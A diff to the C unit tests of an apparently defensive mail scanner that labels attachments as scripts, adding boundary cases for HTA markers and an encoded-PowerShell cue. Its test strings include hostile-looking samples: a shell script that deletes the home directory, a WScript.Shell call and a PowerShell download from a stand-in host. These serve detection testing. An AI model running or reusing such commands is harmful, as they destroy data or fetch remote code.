@@ -165,6 +165,9 @@ static void test_content_cues(void **state)
 	cat_is(cat("#!/bin/sh\nrm -rf ~\n", 19, "readme.txt"), "script", "shebang");
 	cat_is(cat("#@~^XXXX==", 10, NULL), "script", "encoded script");
 	cat_is(cat("<html><head><HTA:APPLICATION id=x></head></html>", 48, "x.txt"), "script", "HTA content");
+	/* found past other '<', up to the very end of what is read, and not past it */
+	cat_is(cat("<p>a < b</p><<hTa:ApPlIcAtIoN", 30, "x.txt"), "script", "HTA at the end");
+	cat_is(cat("<p>a < b</p><<hta:applicatio", 28, "x.txt"), NULL, "HTA cut short");
 	/* Plain text with an innocent name is nothing. */
 	cat_is(cat("hello world\n", 12, "notes.txt"), NULL, "text");
 	cat_is(cat(pdf_text, strlen(pdf_text), "invoice.pdf"), NULL, "pdf");
@@ -613,7 +616,11 @@ static void test_run_script_content(void **state)
 	static const char wsh[] = "var sh = new ActiveXObject(\"WScript.Shell\");\r\nsh.Run(\"calc\");\r\n";
 	static const char ps[] = "$c = (New-Object Net.WebClient).DownloadString('http://x.test/a');\n";
 	static const char note[] = "Meeting notes: bring the shell scripts and the ActiveX report.\n";
+	static const char tail[] = "powershell -NoProfile -EncodedCommand";
+	static const char cut[] = "powershell -NoProfile -EncodedComman";
 	int a = attach(m, "application/octet-stream", "statement", wsh, strlen(wsh));
+	int d = attach(m, "text/plain", "run.txt", tail, strlen(tail));
+	int e = attach(m, "text/plain", "cut.txt", cut, strlen(cut));
 	int b = attach(m, "text/plain", "notes.txt", ps, strlen(ps));
 	int c = attach(m, "text/plain", "minutes.txt", note, strlen(note));
 	int body = sl_msg_find_part(m, "1");
@@ -624,6 +631,8 @@ static void test_run_script_content(void **state)
 	expect(m, SL_FIND_FILETYPE, "script", a);
 	expect(m, SL_FIND_FILETYPE, "script", b);
 	expect_not(m, SL_FIND_FILETYPE, "script", c);
+	expect(m, SL_FIND_FILETYPE, "script", d); /* a cue that ends the text */
+	expect_not(m, SL_FIND_FILETYPE, "script", e);
 	expect_not(m, SL_FIND_FILETYPE, "script", body);
 	sl_msg_free(m);
 }
